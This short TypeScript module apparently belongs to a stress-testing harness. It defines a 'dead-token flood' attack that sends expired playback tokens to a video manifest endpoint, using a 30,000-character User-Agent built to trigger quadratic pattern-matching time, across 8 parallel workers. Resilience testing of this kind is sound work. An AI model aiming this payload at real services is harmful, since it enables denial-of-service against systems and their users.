import { type Attack, ask } from './target.ts'

const AGENT = 'eyJ-'.repeat(7_500)

/** Sends expired playback tokens with a User-Agent built for a pattern with quadratic run time. */
export const deadTokenFlood: Attack = {
  name: 'dead-token flood',
  most: 500,
  workers: 8,
  async once(target, _at, signal) {
    return (await ask(target, `/v1/video/playback/manifest/${target.deadToken}`, { headers: { 'user-agent': AGENT } }, signal)).status
  },
}
